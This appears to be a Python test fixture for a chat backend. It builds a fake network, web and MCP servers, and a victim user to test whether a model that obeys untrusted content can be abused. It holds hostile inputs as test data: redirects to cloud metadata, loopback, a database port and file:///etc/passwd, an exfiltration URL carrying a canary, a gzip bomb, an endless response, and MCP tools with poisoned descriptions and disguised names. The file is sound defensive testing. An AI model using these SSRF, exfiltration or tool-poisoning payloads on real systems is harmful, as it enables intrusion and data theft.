"""The world around a backend whose model obeys strangers: an internet of its own, servers, and a bystander.

The network stands where Python meets the system, below everything of ours: names of the internet have
addresses on it, its web servers listen on loopback, and whatever else is connected to is a canary.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import socket
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from starlette.types import Send

from tests.support.chat import ChatServer, ask, chatting
from tests.support.mcp_server import McpHost, answer, offering, serve_script
from tests.support.process import until
from tests.support.server import Document, Person
from tests.support.web import Web, serve_web

__all__ = ["MCP_SECRET", "PROMPT", "VICTIMS_WORDS", "Ground", "prepared"]

PAGES, OUTSIDE, INSIDE = "93.184.215.14", "93.184.215.15", "10.0.0.5"
NAMES: Final = {
    "pages.example": [PAGES],
    "outside.example": [OUTSIDE],
    "turned.example": [INSIDE],
    "mixed.example": [OUTSIDE, INSIDE],
    "localhost": ["127.0.0.1"],
}
WEB_PORTS: Final = frozenset({80, 443, 8080, 8443})
ECHO: Final = "echo"
ELSEWHERE: Final = "elsewhere"
PROMPT, MCP_SECRET, VICTIMS_WORDS = "prompt-canary-5f1c", "mcp-canary-90ab77", "victims-canary-c3d4"
ENDLESS_PARTS: Final = 200
PART_BYTES: Final = 64 * 1024
ANYTHING: Final[Document] = {"type": "object"}
SCHEMA: Final[Document] = {
    "type": "object",
    "properties": {"topic": {"type": "string"}},
    "required": ["topic"],
    "additionalProperties": False,
}


class Network:
    """What names are looked up and where sockets are opened to, while it is installed."""

    def __init__(self) -> None:
        self.looked_up: list[str] = []
        self.strayed: list[str] = []  # addresses that were connected to and are nobody's
        self.caught = 0  # connections the canary behind all of them got
        self.local: set[int] = set()  # ports of this machine that are somebody's
        self.is_learning = True  # whoever is connected to on this machine is somebody
        self.public: dict[str, int] = {}  # where the servers of the internet really listen
        self._canary = 0
        self._flips = 0

    def forget(self) -> None:
        self.looked_up.clear()
        self.strayed.clear()
        self.caught = 0

    def install(self, patch: pytest.MonkeyPatch) -> None:
        look_up, connect = socket.getaddrinfo, socket.socket.connect

        # Any: the signatures are the system's.
        def getaddrinfo(host: Any, port: Any, *rest: Any, **named: Any) -> Any:
            if ":" in str(host) or not str(host).strip("0123456789."):
                return look_up(host, port, *rest, **named)
            self.looked_up.append(str(host))
            found = self._addresses(str(host))
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (each, port or 0)) for each in found]

        def connect_as_led(its: socket.socket, address: Any) -> None:
            connect(its, self._led(its, address) if isinstance(address, tuple) else address)

        patch.setattr(socket, "getaddrinfo", getaddrinfo)
        patch.setattr(socket.socket, "connect", connect_as_led)

    @asynccontextmanager
    async def canary(self) -> AsyncIterator[None]:
        """Listens in the place of every address that must not be connected to, and gives a secret away."""

        async def catch(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.caught += 1
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\ncontent-type: text/plain\r\n\r\nsecret")
            writer.close()

        async with await asyncio.start_server(catch, "127.0.0.1", 0) as server:
            self._canary = server.sockets[0].getsockname()[1]
            yield

    def _addresses(self, name: str) -> list[str]:
        if name == "flips.example":
            self._flips += 1
            return [OUTSIDE if self._flips % 2 else INSIDE]
        if name not in NAMES:
            raise socket.gaierror(socket.EAI_NONAME, "nobody has this name")
        return NAMES[name]

    def _led(self, its: socket.socket, address: tuple[Any, ...]) -> tuple[str, int]:
        host, port = str(address[0]), int(address[1])
        if host == "127.0.0.1" and (self.is_learning or port in self.local):
            self.local.add(port)
            return host, port
        if host in self.public and port in WEB_PORTS:
            return "127.0.0.1", self.public[host]
        self.strayed.append(f"{host}:{port}")
        return "::ffff:127.0.0.1" if its.family == socket.AF_INET6 else "127.0.0.1", self._canary


class Shop:
    """An MCP server with a tool that an agent has, and one that it does not."""

    def __init__(self) -> None:
        self.says: dict[str, list[Document]] = {}  # the content of a topic
        self.host = McpHost("")

    async def __call__(self, message: Document, send: Send) -> None:
        await offering(_tool("lookup", SCHEMA), _tool("erase"), on_call=self._call)(message, send)

    async def _call(self, message: Document, send: Send) -> None:
        topic = message["params"]["arguments"].get("topic", "")
        if topic == ELSEWHERE:
            lines = [(b"location", b"http://outside.example/mcp")]
            await send({"type": "http.response.start", "status": 307, "headers": lines})
            await send({"type": "http.response.body", "body": b""})
            return
        headers = json.dumps(dict(self.host.seen[-1].headers))
        content = _text(headers) if topic == ECHO else self.says.get(topic, _text("erased"))
        await answer(send, message, result={"resultType": "complete", "content": content})


@dataclass
class Ground:
    """Everything around the product.

    Attributes:
        reader: whose agents read what strangers say.
        victim: somebody else, with a conversation and a run that goes on all the time.
        words: what the `$words` of a scenario stand for.
    """

    chat: ChatServer
    network: Network
    pages: Web
    outside: Web
    wiki: Web
    shop: Shop
    mail: McpHost
    poisoned: McpHost
    reader: Person
    victim: Person
    words: dict[str, str]

    def forget(self) -> None:
        self.network.forget()
        for web in (self.pages, self.outside, self.wiki):
            web.asked.clear()
        for host in self._hosts().values():
            host.seen.clear()

    def sent(self) -> dict[str, str]:
        """All that each server was sent; the shop's own headers are no secret to it."""
        webs = {"pages": self.pages, "outside": self.outside, "wiki": self.wiki}
        sent = {name: repr(web.asked) for name, web in webs.items()}
        sent |= {name: repr(host.seen) for name, host in self._hosts().items()}
        return sent | {"shop": repr([each.message for each in self.shop.host.seen])}

    def reached(self) -> set[str]:
        """The web servers that were asked, and the tools of MCP servers that were called."""
        webs = {"pages": self.pages, "outside": self.outside, "wiki": self.wiki}
        called = {
            f"{name}.{each.message['params']['name']}"
            for name, host in self._hosts().items()
            for each in host.of("tools/call")
        }
        return called | {name for name, web in webs.items() if web.asked}

    async def untouched(self) -> Document:
        """What no run of somebody else may change."""
        paths = (
            f"/api/runs/{self.words['run']}",
            f"/api/conversations/{self.words['conversation']}",
            "/api/credits",
        )
        return {path: (await self.victim.client.get(path)).json() for path in paths}

    async def victims_end(self) -> str:
        """The events of the victim's run, which may end now."""
        self.chat.server.echo.gates["victim"].set()
        path = f"/api/runs/{self.words['run']}/events"
        return (await self.victim.client.get(path, headers={"Accept": "text/event-stream"})).text

    def _hosts(self) -> dict[str, McpHost]:
        return {"shop": self.shop.host, "mail": self.mail, "poisoned": self.poisoned}


@asynccontextmanager
async def prepared(database_url: str, *, poison: str) -> AsyncIterator[Ground]:
    """
    Args:
        poison: the description of a tool of the MCP server `poisoned`.
    """
    network, shop = Network(), Shop()
    async with AsyncExitStack() as stack:
        network.install(stack.enter_context(pytest.MonkeyPatch.context()))
        await stack.enter_async_context(network.canary())
        pages, outside, wiki = [await stack.enter_async_context(serve_web()) for _ in range(3)]
        shop.host = await stack.enter_async_context(serve_script(shop))
        mail = await stack.enter_async_context(serve_script(offering(_tool("send"), on_call=_sent)))
        odd = [{**_tool(name), "description": poison} for name in ("help", "\u202eerase\x00", "\x1b[31mnow")]
        poisoned = await stack.enter_async_context(serve_script(offering(*odd, on_call=_sent)))
        origins = [each.origin for each in (shop.host, mail, poisoned)]
        network.public = {PAGES: pages.port, OUTSIDE: outside.port}
        network.local |= {wiki.port, *(urlsplit(each).port or 0 for each in origins)}
        _furnish(pages, outside, wiki)
        settings = {"fetch_private_hosts": f"127.0.0.1:{wiki.port}", "mcp_servers": ",".join(origins)}
        chat = await stack.enter_async_context(chatting(database_url, **settings))
        reader, victim = [await stack.enter_async_context(chat.server.person()) for _ in range(2)]
        words = await _victims_words(chat, victim) | {
            "prompt": PROMPT,
            "mcp_secret": MCP_SECRET,
            "victim": str(victim.id),
            "app": chat.server.url,
            "model": chat.model.url,
            "wiki": wiki.url,
            "wiki_port": str(wiki.port),
            "shop": shop.host.url,
            "mail": mail.url,
            "poisoned": poisoned.url,
        }
        network.is_learning = False
        yield Ground(chat, network, pages, outside, wiki, shop, mail, poisoned, reader, victim, words)


async def _victims_words(chat: ChatServer, victim: Person) -> dict[str, str]:
    agent = await chat.agent(victim.id, system_prompt=VICTIMS_WORDS)
    begun = (await victim.client.post("/api/conversations", json={"agentId": str(agent)})).json()
    await ask(victim, agent, VICTIMS_WORDS, conversationId=begun["conversationId"])
    run = await victim.started({"chunks": [VICTIMS_WORDS], "gate": "victim"})

    async def has_spoken() -> bool:
        return bool((await victim.client.get(f"/api/runs/{run}")).json()["lastSeq"] > 1)

    await until(has_spoken, within_s=10)
    return {"conversation": begun["conversationId"], "run": run}


def _furnish(pages: Web, outside: Web, wiki: Web) -> None:
    redirects = {
        "/to-metadata": "http://169.254.169.254/latest/meta-data",
        "/to-loopback": "http://127.0.0.1:8080/",
        "/to-mapped": "http://[::ffff:127.0.0.1]:8080/",
        "/to-name": "http://turned.example/",
        "/to-file": "file:///etc/passwd",
        "/to-itself": "/to-itself",
        "/out": f"http://outside.example/?d={PROMPT}",
    }
    for path, location in redirects.items():
        pages.reply(path, status=302, headers={"location": location})
    for path, location in {
        "/away": "http://127.0.0.1:8080/",
        "/away-to-database": "http://127.0.0.1:5432/",
    }.items():
        wiki.reply(path, status=302, headers={"location": location})
    # So that each request needs a lookup and a connection of its own.
    outside.reply("/", b"outside", headers={"content-type": "text/plain", "connection": "close"})
    wiki.reply("/plain", b"the wiki", headers={"content-type": "text/plain"})
    page = {"content-type": "text/html"}
    pages.reply("/bomb", gzip.compress(b"<p>" * 3_000_000), headers=page | {"content-encoding": "gzip"})
    pages.reply("/tangled", "".join(f"<b x={n}><p>" for n in range(6_000)).encode(), headers=page)
    pages.reply("/archive.zip", b"PK\x03\x04" + bytes(1000), headers={"content-type": "application/zip"})
    pages.answers["/endless"] = _endless


async def _endless(send: Send) -> None:
    """More than anybody should take."""
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
    for _ in range(ENDLESS_PARTS):
        await send({"type": "http.response.body", "body": b"x" * PART_BYTES, "more_body": True})
        await asyncio.sleep(0)
    await send({"type": "http.response.body"})


async def _sent(message: Document, send: Send) -> None:
    await answer(send, message, result={"resultType": "complete", "content": _text("sent")})


def _tool(name: str, schema: Document = ANYTHING) -> Document:
    return {"name": name, "description": name, "inputSchema": schema}


def _text(text: str) -> list[Document]:
    return [{"type": "text", "text": text}]
